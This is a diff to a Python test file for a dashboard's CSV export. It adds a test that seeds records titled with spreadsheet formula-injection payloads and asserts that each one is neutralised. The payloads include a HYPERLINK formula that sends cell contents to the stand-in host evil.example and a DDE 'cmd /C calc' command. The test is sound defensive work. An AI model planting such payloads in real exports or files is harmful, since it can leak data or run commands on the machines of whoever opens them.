@@ -4,12 +4,14 @@ from __future__ import annotations
 
 import csv
 import io
+from datetime import timedelta
 
 from sqlalchemy.orm import Session, sessionmaker
 from streamlit.testing.v1 import AppTest
 
 from dashboard import library, views
-from tests.dashboard.conftest import OpenPage
+from data.models import ARTIFACT_STORED, Artifact, Batch, Evaluation, Source, utcnow
+from tests.dashboard.conftest import Downloads, OpenPage
 from tests.dashboard.seed import HOSTILE, Seeded
 
 
@@ -92,9 +94,51 @@ def test_csv_export_is_offered_with_its_cap_stated(seeded: Seeded, open_page: Op
     assert any(f"at most {library.EXPORT_CAP:,} rows" in c.value for c in at.caption)
 
 
-def test_csv_cells_cannot_become_spreadsheet_formulas() -> None:
-    assert library._csv_cell("=HYPERLINK(1)") == "'=HYPERLINK(1)"
-    assert library._csv_cell("plain") == "plain"
+# Titles that a spreadsheet would run as formulas, newest first, and what the downloaded CSV must hold.
+FORMULA_TITLES = [
+    ('=HYPERLINK("http://evil.example/?d="&A1,"open")', '\'=HYPERLINK("http://evil.example/?d="&A1,"open")'),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("plain title = fine", "plain title = fine"),
+]
+
+
+def test_the_downloaded_csv_neutralises_formula_cells(
+    dashboard_env: sessionmaker[Session], open_page: OpenPage, downloads: Downloads
+) -> None:
+    now = utcnow()
+    with dashboard_env.begin() as session:
+        source = Source(name="@feeds", kind="folder", location="/srv/feeds")
+        session.add(source)
+        session.flush()
+        batch = Batch(source_id=source.id, status="completed")
+        session.add(batch)
+        session.flush()
+        for seq, (title, _) in enumerate(FORMULA_TITLES):
+            artifact = Artifact(
+                batch_id=batch.id, source_id=source.id, seq=seq, uri=f"file:///srv/feeds/{seq}.txt",
+                content_type="text/plain", status=ARTIFACT_STORED, title=title, language="en",
+                stored_at=now - timedelta(minutes=seq),
+            )  # fmt: skip
+            session.add(artifact)
+            session.flush()
+            session.add(
+                Evaluation(artifact_id=artifact.id, label="review", confidence=0.5, rationale="-1 point", evaluator="x")
+            )  # fmt: skip
+
+    at = open_page("library")
+    served = downloads.served(at, "library_csv")
+    assert (served.mimetype, served.file_name) == ("text/csv", "loreguard-library.csv")
+    rows = list(csv.reader(io.StringIO(served.data.decode("utf-8"), newline="")))
+    assert rows[0] == library.LIBRARY_COLUMNS
+    assert [(r[1], r[2], r[5]) for r in rows[1:]] == [
+        (expected, "'@feeds", "'-1 point") for _, expected in FORMULA_TITLES
+    ]
+    for title, _ in FORMULA_TITLES[:-1]:  # no formula starts a cell anywhere in the file
+        assert f",{title}".encode() not in served.data and f',"{title}'.encode() not in served.data
 
 
 def test_the_hostile_title_is_a_plain_cell(seeded: Seeded, open_page: OpenPage) -> None:
